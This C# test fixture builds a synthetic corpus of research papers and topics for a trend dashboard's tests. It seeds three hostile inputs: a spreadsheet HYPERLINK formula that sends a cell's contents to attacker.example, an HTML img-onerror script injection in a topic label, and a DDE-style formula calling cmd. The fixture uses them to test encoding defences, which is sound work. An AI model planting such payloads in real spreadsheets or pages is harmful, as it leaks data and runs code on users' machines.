using TrendBoard.Core.Papers;
using TrendBoard.Core.Topics;

namespace TrendBoard.Web.Tests.Infrastructure;

/// <summary>
/// A small corpus built in code: eight weeks of papers in three topics plus outliers, with
/// upvotes, model keywords and hostile text in a title, a topic label and a keyword.
/// </summary>
internal static class TestCorpus
{
    /// <summary>A Monday; the corpus covers the eight weeks from here.</summary>
    public static readonly DateOnly FirstDay = new(2024, 6, 3);

    public static readonly DateOnly LastDay = FirstDay.AddDays((7 * 8) - 1);

    /// <summary>A spreadsheet formula that would send cell A1 to another host if a spreadsheet ran it.</summary>
    public const string HostileTitle = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Open the paper\")";

    /// <summary>Markup that would run script if the dashboard or plotly.js treated the label as HTML.</summary>
    public const string HostileLabel = "agents <img src=x onerror=alert(1)> & <b>tools</b>";

    public const string HostileKeyword = "@SUM(1+1)*cmd|' /C calc'!A0";

    public static readonly IReadOnlyList<TopicInfo> Topics =
    [
        new(0, HostileTitle, 0, [new TopicTerm(1, "hyperlink", 0.9), new TopicTerm(2, "leak", 0.5)]),
        new(1, "diffusion, video", 0, [new TopicTerm(1, "diffusion", 0.8), new TopicTerm(2, "video", 0.6)]),
        new(2, HostileLabel, 0, [new TopicTerm(1, "agents", 0.7), new TopicTerm(2, "tools", 0.4)]),
    ];

    private static readonly string[][] TopicKeywords =
    [
        ["spreadsheets", "security", HostileKeyword],
        ["diffusion models", "video generation", "text-to-video", "temporal consistency"],
        ["llm agents", "tool use", "planning", "benchmarks"],
        ["benchmarks", "survey"],
    ];

    /// <summary>Returns every paper with its topic: topic = paper index mod 4, where 3 becomes the outlier topic -1.</summary>
    public static IReadOnlyList<(PaperRecord Paper, int TopicId, IReadOnlyList<string> Keywords)> Build()
    {
        var papers = new List<(PaperRecord, int, IReadOnlyList<string>)>();
        var index = 0;
        for (var day = FirstDay; day <= LastDay; day = day.AddDays(1))
        {
            // Between one and four papers a day, so bins differ in size.
            var count = 1 + (day.DayNumber % 4);
            for (var i = 0; i < count; i++, index++)
            {
                var slot = index % 4;
                var topicId = slot == 3 ? -1 : slot;
                var vocabulary = TopicKeywords[slot];
                IReadOnlyList<string> keywords = [vocabulary[index % vocabulary.Length], vocabulary[(index + 1) % vocabulary.Length]];
                var title = index == 5 ? HostileTitle : $"Paper {index} on {string.Join(" and ", keywords)}";
                var paper = new PaperRecord(
                    Id: $"2406.{index:D5}",
                    Title: title,
                    Abstract: $"We study {keywords[0]} with {keywords[1]}.",
                    PublishedOn: day,
                    FeaturedOn: day.AddDays(1),
                    Authors: ["A. Author"],
                    SourceKeywords: keywords,
                    Upvote: new UpvoteObservation(day.AddDays(1), (index * 7) % 50),
                    Source: "hf-daily-api");
                papers.Add((paper, topicId, keywords));
            }
        }

        return papers;
    }

    /// <summary>Returns a model result that assigns each paper its built topic and keywords.</summary>
    public static TopicModelResult BuildModelResult(IReadOnlyList<(PaperRecord Paper, int TopicId, IReadOnlyList<string> Keywords)> papers)
    {
        var sizes = papers.GroupBy(paper => paper.TopicId).ToDictionary(topic => topic.Key, topic => topic.Count());

        return new TopicModelResult(
            new TopicModelOptions { TopicCount = Topics.Count, Seed = 7 },
            Topics.Select(topic => topic with { Size = sizes.GetValueOrDefault(topic.TopicId) }).ToList(),
            papers.Select(paper => new TopicAssignment(paper.Paper.Id, paper.TopicId, 1.0)).ToList(),
            papers.SelectMany(paper => paper.Keywords.Select((keyword, rank) => new PaperKeyword(paper.Paper.Id, keyword, 1.0 - (rank * 0.1)))).ToList(),
            new Dictionary<string, double> { ["coherence"] = 0.5 },
            "test-fixture");
    }
}
